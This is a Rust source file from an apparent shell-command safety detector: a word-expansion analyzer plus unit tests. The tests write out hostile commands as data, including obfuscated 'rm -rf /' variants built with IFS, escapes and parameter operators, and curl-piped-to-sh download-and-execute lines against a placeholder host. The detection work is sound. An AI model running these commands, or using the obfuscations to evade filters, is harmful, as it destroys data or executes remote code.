//! Word expansion: tilde, parameters, command and process substitutions, `$IFS` splitting and globs.

use std::rc::Rc;

use super::analyze::Analyzer;
use super::ast::{Assign, List, Part, Word};
use super::brace::{brace_expand, has_brace};
use super::value::{Field, Flow, Scope, join_fields};
use super::{MAX_ARRAY_INDEX, MAX_BRACE_WORDS};

/// Builds the fields of one word during expansion, splitting unquoted expansion results.
struct Builder {
    split: bool,
    /// A pattern (`${x%pat}`): unquoted glob characters, in text or in values, are active.
    pattern: bool,
    ifs: String,
    fields: Vec<Field>,
    cur: Field,
    started: bool,
}

impl Builder {
    fn new(split: bool, ifs: String) -> Self {
        Self {
            split,
            pattern: false,
            ifs,
            fields: Vec::new(),
            cur: Field::default(),
            started: false,
        }
    }

    fn lit(&mut self, s: &str) {
        if s.is_empty() {
            return;
        }
        self.cur.glob |= (self.split || self.pattern) && has_glob(s);
        self.cur.push_str(s);
        self.started = true;
    }

    fn quoted(&mut self, s: &str) {
        self.cur.push_str(s);
        self.started = true;
    }

    /// An expansion result; split on `$IFS` and globbed when unquoted in a splitting context.
    fn value(&mut self, v: &Field, unquoted: bool) {
        let first_new = self.fields.len();
        if v.dynamic || !(self.split && unquoted) {
            self.cur.glob |= self.pattern && unquoted && !v.dynamic && has_glob(&v.text);
            self.cur.push_str(&v.text);
            self.cur.dynamic |= v.dynamic;
            if v.found_under.is_some() {
                self.cur.found_under.clone_from(&v.found_under);
            }
            if v.content.is_some() {
                self.cur.content.clone_from(&v.content);
            }
            self.started = true;
        } else {
            for c in v.text.chars() {
                if self.ifs.contains(c) {
                    self.boundary();
                } else {
                    self.cur.push_str(c.encode_utf8(&mut [0; 4]));
                    self.cur.glob |= matches!(c, '*' | '?' | '[');
                    self.started = true;
                }
            }
        }
        for f in self.fields[first_new..]
            .iter_mut()
            .chain(std::iter::once(&mut self.cur))
        {
            f.taint.merge(&v.taint);
        }
    }

    fn boundary(&mut self) {
        if self.started {
            self.fields.push(std::mem::take(&mut self.cur));
            self.started = false;
        }
    }

    fn finish(mut self, out: &mut Vec<Field>) {
        self.boundary();
        out.append(&mut self.fields);
    }
}

/// Unquoted glob characters that make a pattern (`[` only with a closing `]`).
pub(super) fn has_glob(s: &str) -> bool {
    s.contains(['*', '?'])
        || s.find('[').is_some_and(|i| s[i..].contains(']'))
        || s.contains("!(")
        || s.contains("@(")
        || s.contains("+(")
}

impl Analyzer {
    /// Expands one word into fields: braces, tilde, parameters, substitutions, splitting.
    pub(super) fn expand(&mut self, word: &Word, scope: &mut Scope) -> Vec<Field> {
        let mut out = Vec::new();
        if has_brace(word) {
            let (alternatives, cut) = brace_expand(word);
            if cut {
                self.give_up(&format!(
                    "a brace expansion makes more than {MAX_BRACE_WORDS} words, past what is analysed"
                ));
            }
            for alt in alternatives {
                self.expand_parts(&alt, scope, true, &mut out);
            }
        } else {
            self.expand_parts(word, scope, true, &mut out);
        }
        out
    }

    /// Expands a word that stays one field (assignment values, redirection targets).
    pub(super) fn expand_one(&mut self, word: &Word, scope: &mut Scope) -> Field {
        let mut out = Vec::new();
        self.expand_parts(word, scope, false, &mut out);
        join_fields(out, " ")
    }

    /// Expands the pattern of `${x%pat}` and the like: one field, glob when it holds unquoted
    /// glob characters.
    pub(super) fn expand_pattern(&mut self, word: &Word, scope: &mut Scope) -> Field {
        let mut b = Builder::new(false, self.ifs(scope));
        b.pattern = true;
        self.expand_into(word, scope, b, &mut Vec::new())
    }

    pub(super) fn assignment_value(&mut self, word: &Word, scope: &mut Scope) -> Vec<Field> {
        match word.as_slice() {
            [Part::Array(words)] => {
                let mut values = Vec::new();
                for w in words {
                    values.extend(self.expand(w, scope));
                }
                values
            }
            _ => vec![self.expand_one(word, scope)],
        }
    }

    fn expand_parts(
        &mut self,
        parts: &[Part],
        scope: &mut Scope,
        split: bool,
        out: &mut Vec<Field>,
    ) {
        // A lone parameter passes its values through whole, keeping what each stands for (a glob
        // pattern from `for f in *`, a `find` placeholder, a process substitution), and each
        // element of `"$@"` or `"${a[@]}"` a field of its own.
        if let [Part::Param(p)] = parts
            && split
        {
            let values = self.param_values(p, scope);
            let ifs = self.ifs(scope);
            let whole = p.quoted
                || values
                    .iter()
                    .all(|v| v.dynamic || !v.text.contains(|c| ifs.contains(c)));
            if whole {
                for mut v in values {
                    if !p.quoted {
                        if v.text.is_empty() && !v.dynamic {
                            continue;
                        }
                        v.glob |= !v.dynamic && has_glob(&v.text);
                    }
                    out.push(v);
                }
            } else {
                let mut b = Builder::new(split, ifs);
                for v in &values {
                    b.value(v, true);
                    b.boundary();
                }
                b.finish(out);
            }
            return;
        }
        let b = Builder::new(split, self.ifs(scope));
        self.expand_into(parts, scope, b, out);
    }

    /// Expands `parts` into `b`; the fields go to `out`, and the last one (or an empty one) is
    /// also returned, for words that stay one field.
    fn expand_into(
        &mut self,
        parts: &[Part],
        scope: &mut Scope,
        mut b: Builder,
        out: &mut Vec<Field>,
    ) -> Field {
        for (i, part) in parts.iter().enumerate() {
            match part {
                Part::Lit(s) if i == 0 && s.starts_with('~') => {
                    let rest = self.tilde(s, scope, &mut b);
                    b.lit(rest);
                }
                Part::Lit(s) => b.lit(s),
                Part::Quoted(s) => b.quoted(s),
                Part::Param(p) => {
                    let v = join_fields(self.param_values(p, scope), " ");
                    b.value(&v, !p.quoted);
                }
                Part::Subst { body, quoted } => {
                    let v = self.substitute(body.as_deref(), scope);
                    b.value(&v, !quoted);
                }
                Part::ProcSubst { body, output } => {
                    let v = self.process_substitution(body.as_deref(), *output, scope);
                    b.value(&v, false);
                }
                Part::Arith(expansions) => {
                    self.expand_one(expansions, scope);
                    b.value(&Field::dynamic("$((…))"), false);
                }
                Part::Array(words) => {
                    let values = self.assignment_value(&vec![Part::Array(words.clone())], scope);
                    b.value(&join_fields(values, " "), false);
                }
            }
        }
        let first = out.len();
        b.finish(out);
        out[first..].last().cloned().unwrap_or_default()
    }

    /// Expands a leading `~`, `~+`, `~user`; returns the rest of the text.
    fn tilde<'s>(&mut self, s: &'s str, scope: &Scope, b: &mut Builder) -> &'s str {
        let end = s.find('/').unwrap_or(s.len());
        let (prefix, rest) = s.split_at(end);
        let home_user = self.home.as_deref().and_then(|h| h.rsplit('/').next());
        let value = match &prefix[1..] {
            "" => self
                .lookup("HOME", None, scope)
                .and_then(|v| v.into_iter().next()),
            "+" => scope.cwd.as_deref().map(Field::known),
            "root" => Some(Field::known("/root")),
            user if home_user == Some(user) => self.home.as_deref().map(Field::known),
            _ => None,
        };
        b.value(&value.unwrap_or_else(|| Field::dynamic(prefix)), false);
        rest
    }

    fn ifs(&self, scope: &Scope) -> String {
        self.lookup("IFS", None, scope)
            .and_then(|v| v.into_iter().next())
            .map_or_else(|| " \t\n".to_owned(), |f| f.text)
    }

    /// The value(s) of a variable, `None` when unknown.
    pub(super) fn lookup(
        &self,
        name: &str,
        index: Option<&str>,
        scope: &Scope,
    ) -> Option<Vec<Field>> {
        let positional = scope.positional.as_deref();
        match name {
            "PWD" => scope.cwd.as_deref().map(|c| vec![Field::known(c)]),
            "IFS" if !scope.vars.contains_key("IFS") => Some(vec![Field::known(" \t\n")]),
            "@" | "*" => positional.map(|p| p.iter().skip(1).cloned().collect()),
            "#" => positional.map(|p| vec![Field::known(&p.len().saturating_sub(1).to_string())]),
            n if !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit()) => {
                let i: usize = n.parse().ok()?;
                positional.map(|p| vec![p.get(i).cloned().unwrap_or_default()])
            }
            _ => {
                let values = scope.vars.get(&scope.resolve(name))?;
                let set = |f: &Field| {
                    if f.is_unset() {
                        Field::default()
                    } else {
                        f.clone()
                    }
                };
                match index.map(str::trim) {
                    None => values.first().map(|f| vec![set(f)]),
                    Some("@" | "*") => {
                        Some(values.iter().filter(|f| !f.is_unset()).cloned().collect())
                    }
                    // Negative indices count from the end.
                    Some(i) => {
                        let i: i64 = i.parse().ok()?;
                        let len = i64::try_from(values.len()).ok()?;
                        let i = usize::try_from(if i < 0 { len + i } else { i }).ok()?;
                        values.get(i).map(|f| vec![set(f)])
                    }
                }
            }
        }
    }

    /// `$(..)`: the output when it is known (`$(echo rm)` is `rm`), else a dynamic value that
    /// remembers where it came from.
    fn substitute(&mut self, body: Option<&List>, scope: &Scope) -> Field {
        let Some(body) = body else {
            self.add_program("?");
            return Field::dynamic("$(…)");
        };
        let input = self.pipe_input.clone();
        let (flow, text) = self.capture(|a| a.list(body, &mut scope.clone(), &input));
        self.pipe_input = input;
        match flow.text {
            Some(t) => Field {
                text: t.trim_end_matches('\n').to_owned(),
                taint: flow.taint,
                ..Field::default()
            },
            None => Field {
                text: format!("$({text})"),
                dynamic: true,
                taint: flow.taint,
                found_under: flow.found_under,
                ..Field::default()
            },
        }
    }

    /// `<(..)` (a path whose content is the list's output) or `>(..)` (whose input is this
    /// command's input, as with `tee >(sh)`).
    fn process_substitution(&mut self, body: Option<&List>, output: bool, scope: &Scope) -> Field {
        let Some(body) = body else {
            self.add_program("?");
            return Field::dynamic("<(…)");
        };
        let input = self.pipe_input.clone();
        let stdin = if output {
            input.clone()
        } else {
            Flow::default()
        };
        let (flow, text) = self.capture(|a| a.list(body, &mut scope.clone(), &stdin));
        self.pipe_input = input;
        let sigil = if output { '>' } else { '<' };
        // Reading what `>(..)` stands for yields nothing known.
        let content = if output { Flow::default() } else { flow };
        Field {
            text: format!("{sigil}({text})"),
            dynamic: true,
            content: Some(Rc::new(content)),
            ..Field::default()
        }
    }
}

/// Applies an assignment: a whole value or array, an element (`a[2]=x`), or an append (`x+=y`,
/// `a+=(y z)`).
pub(super) fn assign(scope: &mut Scope, a: &Assign, value: Vec<Field>) {
    let name = scope.resolve(&a.name);
    let array = matches!(a.value.as_slice(), [Part::Array(_)]);
    let old: Vec<Field> = scope
        .vars
        .get(&name)
        .map(|v| v.to_vec())
        .unwrap_or_default();
    let appended = |old: Option<&Field>, new: &Field| {
        let mut joined = old.filter(|f| !f.is_unset()).cloned().unwrap_or_default();
        joined.push_str(&new.text);
        joined.dynamic |= new.dynamic;
        joined.taint.merge(&new.taint);
        joined
    };
    let values = match (&a.index, a.append, array) {
        // A scalar assigned to an array sets its first element.
        (None, false, false) if old.len() > 1 => {
            let mut values = old;
            values[0] = join_fields(value, " ");
            values
        }
        (None, false, _) => value,
        (None, true, true) => old.into_iter().chain(value).collect(),
        (None, true, false) => {
            let new = join_fields(value, " ");
            let mut values = old;
            match values.first_mut() {
                Some(first) => *first = appended(Some(first), &new),
                None => values.push(new),
            }
            values
        }
        (Some(index), append, _) => {
            let new = join_fields(value, " ");
            let len = i64::try_from(old.len()).unwrap_or(i64::MAX);
            let at = index
                .trim()
                .parse::<i64>()
                .ok()
                .map(|i| if i < 0 { len + i } else { i })
                .and_then(|i| usize::try_from(i).ok())
                .filter(|&i| i <= MAX_ARRAY_INDEX);
            let Some(at) = at else {
                // Which element changed is not known (`a[$i]=x`, `m[key]=x`): the array is unknown.
                scope.vars.remove(&name);
                return;
            };
            let mut values = old;
            if values.len() <= at {
                values.resize(at + 1, Field::unset());
            }
            values[at] = if append {
                appended(Some(&values[at]), &new)
            } else {
                new
            };
            values
        }
    };
    scope.vars.insert(name, values.into());
}

#[cfg(test)]
mod tests {
    use crate::detect::shell::CommandCategory::{DownloadExec, RecursiveDelete};
    use crate::detect::shell::tests::{argv, assert_flags, fields, run, words};

    #[test]
    fn quotes_and_escapes() {
        assert_eq!(
            argv(r#"echo 'a b' "c d" e\ f"#),
            ["echo", "a b", "c d", "e f"]
        );
        assert_eq!(
            argv(r#"echo "a\"b\\c\$d\`e\x""#),
            ["echo", r#"a"b\c$d`e\x"#]
        );
        assert_eq!(argv(r"echo 'a\nb'"), ["echo", r"a\nb"]);
        assert_eq!(argv("echo '' \"\" x"), ["echo", "", "", "x"]);
        for spelling in [
            "r''m",
            "\"r\"m",
            "\\rm",
            "'rm'",
            "r\"\"m",
            "$'rm'",
            "$\"rm\"",
            "r$'\\x6d'",
        ] {
            assert_eq!(argv(spelling), ["rm"], "{spelling}");
        }
    }

    #[test]
    fn ansi_c_strings() {
        assert_eq!(
            argv(r"echo $'a\tb\x41\101\u00e9\'\\'"),
            ["echo", "a\tbAA\u{e9}'\\"]
        );
        assert_eq!(argv(r"echo $'\e[0m\cA\z'"), ["echo", "\u{1b}[0m\u{1}\\z"]);
        assert_eq!(
            argv(r#"echo $'\x72\x6d' $'\162\155' $'\U0000006d'"#),
            ["echo", "rm", "rm", "m"]
        );
    }

    #[test]
    fn ifs_splits_unquoted_expansions() {
        assert_eq!(argv("rm${IFS}-rf${IFS}/"), ["rm", "-rf", "/"]);
        assert_eq!(argv("rm$IFS-rf$IFS/"), ["rm", "-rf", "/"]);
        assert_eq!(
            words("X='a  b'; echo $X \"$X\"")[1],
            ["echo", "a", "b", "a  b"]
        );
        assert_eq!(words("IFS=,; c=rm,-rf,/; $c")[2], ["rm", "-rf", "/"]);
        assert_eq!(words("E=; echo $E \"$E\" x")[1], ["echo", "", "x"]);
    }

    #[test]
    fn parameters_and_assignments() {
        assert_eq!(words("a=rm; $a -rf /")[1], ["rm", "-rf", "/"]);
        assert_eq!(words("X=/ ; rm -rf $X")[1], ["rm", "-rf", "/"]);
        assert_eq!(words("x=r; x+=m; $x")[2], ["rm"]);
        assert_eq!(words("a=(rm -rf /); ${a[@]}")[1], ["rm", "-rf", "/"]);
        assert_eq!(words("a=(rm -rf /); ${a[2]} $a")[1], ["/", "rm"]);
        assert_eq!(
            argv("echo ${U:-def} ${U:=set} ${HOME:+alt} ${HOME} $HOME ~ ~/x ~+/y ~root"),
            [
                "echo",
                "def",
                "set",
                "alt",
                "/home/alice",
                "/home/alice",
                "/home/alice",
                "/home/alice/x",
                "/home/alice/project/y",
                "/root"
            ]
        );
        assert_eq!(argv("echo $PWD"), ["echo", "/home/alice/project"]);
        let unknown = &fields("echo $U ${U}/x ${#U} ${U%/*} $((1+2)) $1 ~bob ${!U} ${HOME%$U}")[0];
        assert!(unknown[1..].iter().all(|f| f.dynamic), "{unknown:?}");
    }

    #[test]
    fn substitutions() {
        assert_eq!(argv("$(echo rm) -rf /"), ["rm", "-rf", "/"]);
        assert_eq!(argv("`echo rm` x"), ["rm", "x"]);
        assert_eq!(argv("echo $(echo $(echo `echo hi`))"), ["echo", "hi"]);
        assert_eq!(argv("echo \"$(printf '%s-%s' a b)\""), ["echo", "a-b"]);
        let dynamic = &fields("echo $(ls) `date` <(ls)")[0];
        assert!(dynamic[1..].iter().all(|f| f.dynamic));
        assert_eq!(run("echo $(rm -rf /)").programs, ["rm", "echo"]);
        assert_eq!(
            run("cat <(curl -s x) >(sh)").programs,
            ["curl", "sh", "cat"]
        );
    }

    #[test]
    fn substitutions_inside_parameter_operators_run() {
        assert_flags(
            RecursiveDelete,
            &[
                ": ${x%$(rm -rf /)}",
                ": ${x%%$(rm -rf /)}",
                ": ${x#$(rm -rf /)}",
                ": ${x##`rm -rf /`}",
                "echo \"${x%$(rm -rf /)}\"",
                "echo ${#$(rm -rf /)}",
                "echo \"${#$(rm -rf /)}\"",
                "echo ${!x$(rm -rf /)}",
                "echo ${x:-$(rm -rf ~)}",
                "echo ${x-$(rm -rf ~)}",
                "x=$(cat f); echo ${x:-$(rm -rf ~)}",
                "echo ${x/$(rm -rf /)/y}",
                "echo ${x//y/$(rm -rf /)}",
                "echo ${x/#$(rm -rf /)}",
                "echo ${x:$(rm -rf /)}",
                "echo ${x:1:$(rm -rf /)}",
                "echo ${a[$(rm -rf /)]}",
                "echo ${#a[$(rm -rf /)]}",
                "echo ${PATH:+$(rm -rf /)}",
                "echo ${x:?$(rm -rf /)}",
                "echo ${x^^$(rm -rf /)}",
                "echo ${x@$(rm -rf /)}",
                "echo ${x%${y:-$(rm -rf /)}}",
            ],
        );
        assert_flags(
            DownloadExec,
            &[
                "echo ${x#$(curl -s https://x.example/i.sh | sh)}",
                // What an operator makes of downloaded bytes is still downloaded.
                "x=$(curl -s https://x.example/a); eval \"${x%%#*}\"",
                "eval \"${x/a/$(curl -s https://x.example/a)}\"",
            ],
        );
    }

    #[test]
    fn operators_on_known_values() {
        assert_eq!(
            argv(
                "echo ${#HOME} ${HOME%/*} ${HOME##*/} ${HOME/alice/bob} ${HOME//l/L} ${HOME:1:4} ${HOME: -5}"
            ),
            [
                "echo",
                "11",
                "/home",
                "alice",
                "/home/bob",
                "/home/aLice",
                "home",
                "alice"
            ]
        );
        assert_eq!(
            argv(
                "echo ${HOME^^} ${HOME^} ${HOME~~} ${HOME#/home/} ${HOME%%[a-z]*} ${HOME/#\\/h/x} ${HOME/%e/E}"
            ),
            [
                "echo",
                "/HOME/ALICE",
                "/home/alice",
                "/HOME/ALICE",
                "alice",
                "/",
                "xome/alice",
                "/home/alicE"
            ]
        );
        assert_eq!(
            words("x=(a b c d); echo ${#x[@]} ${x[@]:1:2} ${x[-1]}")[1],
            ["echo", "4", "b", "c", "d"]
        );
        assert_eq!(
            words("x='a*b'; echo \"${x%'*'b}\" ${x%\\*b}")[1],
            ["echo", "a", "a"]
        );
        assert_flags(
            RecursiveDelete,
            &[
                "x='RM -RF /'; ${x,,}",
                "x='rm -rf /X'; ${x%X}",
                "x='rm -rf /xx'; ${x%%x*}",
                "x='Xrm -rf /'; ${x#X}",
                "x='rm -rf /X'; ${x/X/}",
                "x='rXm -rXf /'; ${x//X}",
                "x='rm -rf /'; y=x; ${!y}",
                "x=(a 'rm -rf /'); y='x[1]'; ${!y}",
                "x='\\x72m -rf /'; ${x@E}",
                "x='rm -rf /'; ${x@L}",
                "x=rM; ${x^^[a-z]} -rf /",
                "set -- rm -rf /; \"${@:1}\"",
                "set -- rm -rf /; \"${@: -3}\"",
                "x=(echo rm -rf /); \"${x[@]:1}\"",
                "x='echo rm -rf /'; ${x:5}",
                "x=(a rm); ${x[-1]} -rf /",
                "i=1; x=(a rm); ${x[$i]} -rf /",
            ],
        );
    }
}
